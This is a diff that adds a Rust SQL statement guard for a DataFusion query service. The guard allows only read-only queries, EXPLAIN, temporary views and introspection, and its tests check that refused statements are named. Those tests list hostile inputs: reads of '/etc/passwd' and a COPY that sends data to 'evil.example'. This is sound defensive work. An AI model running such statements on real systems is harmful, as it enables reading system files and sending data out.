@@ -1,0 +1,234 @@
+//! What SQL may do, decided on the parsed statement (never on its text): read-only queries,
+//! EXPLAIN, temporary views, and catalogue introspection of granted tables. Everything that
+//! reads or writes files, changes configuration or the catalogue, or reaches the network is
+//! refused with the statement's class named.
+
+use crate::{QueryError, Result};
+use datafusion::sql::parser::Statement as DFStatement;
+use datafusion::sql::sqlparser::ast::{ObjectName, Query, Statement, TableFactor, Visit, Visitor};
+use std::collections::HashSet;
+use std::ops::ControlFlow;
+
+/// Table functions that compute rows without touching any file or the network.
+pub const ALLOWED_TABLE_FUNCTIONS: &[&str] = &["generate_series", "range"];
+
+/// What an accepted statement is.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Allowed {
+    /// A query (SELECT / WITH / VALUES …).
+    Query,
+    /// EXPLAIN [ANALYZE] of a query.
+    Explain,
+    /// CREATE TEMPORARY VIEW name AS query.
+    TempView {
+        /// The view's name.
+        name: String,
+        /// OR REPLACE.
+        or_replace: bool,
+    },
+    /// SHOW TABLES / SHOW COLUMNS / DESCRIBE of granted tables.
+    Introspection,
+}
+
+fn refused(class: impl Into<String>, reason: &str) -> QueryError {
+    QueryError::Refused { class: class.into(), reason: reason.into() }
+}
+
+/// The statement's leading keywords, e.g. `INSERT INTO`, `DROP TABLE`, `SET`.
+fn class_of(text: &str) -> String {
+    let words: Vec<&str> = text.split_whitespace().take(3).collect();
+    let mut class = Vec::new();
+    for w in words {
+        let u = w.to_ascii_uppercase();
+        if u.chars().all(|c| c.is_ascii_alphabetic() || c == '_') {
+            class.push(u);
+        } else {
+            break;
+        }
+        if class.len() == 2 && !matches!(class[0].as_str(), "CREATE" | "DROP" | "ALTER" | "INSERT" | "DELETE" | "TRUNCATE") {
+            break;
+        }
+    }
+    if class.is_empty() { "UNKNOWN".into() } else { class.join(" ") }
+}
+
+struct RelationCheck {
+    problem: Option<QueryError>,
+}
+
+impl Visitor for RelationCheck {
+    type Break = ();
+
+    fn pre_visit_table_factor(&mut self, tf: &TableFactor) -> ControlFlow<()> {
+        let bad = match tf {
+            TableFactor::Table { name, args: Some(_), .. } => {
+                let f = last_ident(name);
+                (!ALLOWED_TABLE_FUNCTIONS.contains(&f.as_str())).then(|| refused(format!("TABLE FUNCTION {f}"), "ファイルやネットワークに触れうる表関数は使えません / table functions that may read files or the network are not allowed"))
+            }
+            TableFactor::Table { name, .. } => {
+                let n = name.to_string();
+                (n.contains('/') || n.contains('\\') || n.contains("://") || n.contains('\'')).then(|| {
+                    refused("FILE PATH", "ファイルやURLを直接読むことはできません / reading files or URLs directly is not allowed")
+                })
+            }
+            TableFactor::Function { name, .. } => {
+                Some(refused(format!("TABLE FUNCTION {}", last_ident(name)), "表関数は使えません / table functions are not allowed"))
+            }
+            TableFactor::TableFunction { .. }
+            | TableFactor::JsonTable { .. }
+            | TableFactor::OpenJsonTable { .. }
+            | TableFactor::XmlTable { .. }
+            | TableFactor::SemanticView { .. } => Some(refused("TABLE FUNCTION", "表関数は使えません / table functions are not allowed")),
+            _ => None,
+        };
+        if let Some(e) = bad {
+            self.problem = Some(e);
+            return ControlFlow::Break(());
+        }
+        ControlFlow::Continue(())
+    }
+}
+
+fn last_ident(name: &ObjectName) -> String {
+    name.0.last().map(|p| p.to_string().trim_matches('"').to_ascii_lowercase()).unwrap_or_default()
+}
+
+fn check_query(q: &Query) -> Result<()> {
+    let mut v = RelationCheck { problem: None };
+    let _ = q.visit(&mut v);
+    match v.problem {
+        Some(e) => Err(e),
+        None => Ok(()),
+    }
+}
+
+fn check_statement(s: &Statement, granted: &HashSet<String>) -> Result<Allowed> {
+    match s {
+        Statement::Query(q) => {
+            check_query(q)?;
+            Ok(Allowed::Query)
+        }
+        Statement::Explain { statement, .. } => match check_statement(statement, granted)? {
+            Allowed::Query => Ok(Allowed::Explain),
+            _ => Err(refused("EXPLAIN", "EXPLAIN は問い合わせにのみ使えます / EXPLAIN is allowed for queries only")),
+        },
+        Statement::CreateView(v) => {
+            if !v.temporary {
+                return Err(refused(
+                    "CREATE VIEW",
+                    "一時ビューのみ作成できます（CREATE TEMPORARY VIEW）/ only temporary views may be created: use CREATE TEMPORARY VIEW",
+                ));
+            }
+            if v.materialized {
+                return Err(refused("CREATE MATERIALIZED VIEW", "実体化ビューは作成できません / materialized views are not allowed"));
+            }
+            let name = last_ident(&v.name);
+            if v.name.0.len() > 1 {
+                return Err(refused("CREATE VIEW", "ビュー名にスキーマを付けられません / a view name cannot be qualified"));
+            }
+            if !v.columns.is_empty() {
+                return Err(refused(
+                    "CREATE VIEW",
+                    "列名リストは使えません。SELECT の中で AS を使ってください / column lists are not supported: use AS in the SELECT",
+                ));
+            }
+            if granted.contains(&name) {
+                return Err(refused(
+                    "CREATE VIEW",
+                    "許可されたテーブルと同じ名前のビューは作れません / a view cannot shadow a granted table",
+                ));
+            }
+            check_query(&v.query)?;
+            Ok(Allowed::TempView { name, or_replace: v.or_replace })
+        }
+        Statement::ShowTables { .. } | Statement::ShowColumns { .. } | Statement::ExplainTable { .. } => Ok(Allowed::Introspection),
+        other => {
+            let text = other.to_string();
+            let class = class_of(&text);
+            let reason = match class.split(' ').next().unwrap_or("") {
+                "COPY" | "UNLOAD" | "EXPORT" | "LOAD" | "ATTACH" | "INSTALL" => {
+                    "ファイル・ネットワークへのアクセスは許可されていません / file and network access is not allowed"
+                }
+                "SET" | "RESET" | "PRAGMA" => "設定は変更できません / settings cannot be changed",
+                "CREATE" | "DROP" | "ALTER" | "TRUNCATE" | "COMMENT" | "GRANT" | "REVOKE" => {
+                    "カタログは変更できません（一時ビューのみ可）/ the catalogue cannot be changed (temporary views only)"
+                }
+                "INSERT" | "UPDATE" | "DELETE" | "MERGE" => "データは読み取り専用です / the data is read-only",
+                _ => "読み取り専用の問い合わせのみ許可されています / only read-only queries are allowed",
+            };
+            Err(refused(class, reason))
+        }
+    }
+}
+
+/// Decides whether a parsed statement may run. `granted` holds the granted table names.
+pub fn check(stmt: &DFStatement, granted: &HashSet<String>) -> Result<Allowed> {
+    match stmt {
+        DFStatement::Statement(s) => check_statement(s, granted),
+        DFStatement::Explain(e) => match check(&e.statement, granted)? {
+            Allowed::Query => Ok(Allowed::Explain),
+            _ => Err(refused("EXPLAIN", "EXPLAIN は問い合わせにのみ使えます / EXPLAIN is allowed for queries only")),
+        },
+        DFStatement::CreateExternalTable(_) => {
+            Err(refused("CREATE EXTERNAL TABLE", "外部ファイルは読めません / external files cannot be read"))
+        }
+        DFStatement::CopyTo(_) => Err(refused("COPY", "ファイルへの書き出しは許可されていません / writing files is not allowed")),
+        DFStatement::Reset(_) => Err(refused("RESET", "設定は変更できません / settings cannot be changed")),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use datafusion::sql::parser::DFParser;
+
+    fn classify(sql: &str) -> Result<Allowed> {
+        let granted: HashSet<String> = ["re".to_string(), "sy".to_string()].into();
+        let mut stmts = DFParser::parse_sql(sql).map_err(|e| QueryError::Syntax(e.to_string()))?;
+        let s = stmts.pop_front().expect("one statement");
+        check(&s, &granted)
+    }
+
+    #[test]
+    fn read_only_statements_pass() {
+        assert_eq!(classify("SELECT 1").unwrap(), Allowed::Query);
+        assert_eq!(classify("WITH a AS (SELECT * FROM re) SELECT count(*) FROM a JOIN sy USING (receipt_id)").unwrap(), Allowed::Query);
+        assert_eq!(classify("EXPLAIN SELECT * FROM re").unwrap(), Allowed::Explain);
+        assert_eq!(classify("EXPLAIN ANALYZE SELECT * FROM re").unwrap(), Allowed::Explain);
+        assert!(matches!(classify("CREATE TEMPORARY VIEW v AS SELECT * FROM re").unwrap(), Allowed::TempView { .. }));
+        assert_eq!(classify("SELECT * FROM generate_series(1, 3)").unwrap(), Allowed::Query);
+        assert_eq!(classify("SHOW TABLES").unwrap(), Allowed::Introspection);
+    }
+
+    #[test]
+    fn every_refused_class_is_named() {
+        let cases = [
+            ("CREATE EXTERNAL TABLE t STORED AS PARQUET LOCATION '/etc/passwd'", "CREATE EXTERNAL TABLE"),
+            ("COPY re TO '/tmp/out.parquet'", "COPY"),
+            ("COPY (SELECT 1) TO 'http://evil.example/x'", "COPY"),
+            ("INSERT INTO re VALUES (1)", "INSERT INTO"),
+            ("DELETE FROM re", "DELETE FROM"),
+            ("UPDATE re SET age = 1", "UPDATE"),
+            ("DROP TABLE re", "DROP TABLE"),
+            ("CREATE TABLE t AS SELECT 1", "CREATE TABLE"),
+            ("CREATE VIEW v AS SELECT 1", "CREATE VIEW"),
+            ("CREATE TEMPORARY VIEW re AS SELECT 1", "CREATE VIEW"),
+            ("SET datafusion.execution.target_partitions = 1", "SET"),
+            ("RESET datafusion.execution.batch_size", "RESET"),
+            ("SELECT * FROM read_parquet('/etc/passwd')", "TABLE FUNCTION read_parquet"),
+            ("SELECT * FROM read_csv('http://x/y.csv')", "TABLE FUNCTION read_csv"),
+            ("SELECT * FROM '/etc/passwd'", "FILE PATH"),
+            ("SELECT * FROM \"s3://bucket/x.parquet\"", "FILE PATH"),
+            ("EXPLAIN COPY re TO '/tmp/x'", "COPY"),
+            ("ALTER TABLE re ADD COLUMN x INT", "ALTER TABLE"),
+            ("CREATE SCHEMA s", "CREATE SCHEMA"),
+            ("DROP VIEW v", "DROP VIEW"),
+        ];
+        for (sql, class) in cases {
+            match classify(sql) {
+                Err(QueryError::Refused { class: c, .. }) => assert_eq!(c, class, "{sql}"),
+                other => panic!("{sql}: expected refusal, got {other:?}"),
+            }
+        }
+    }
+}
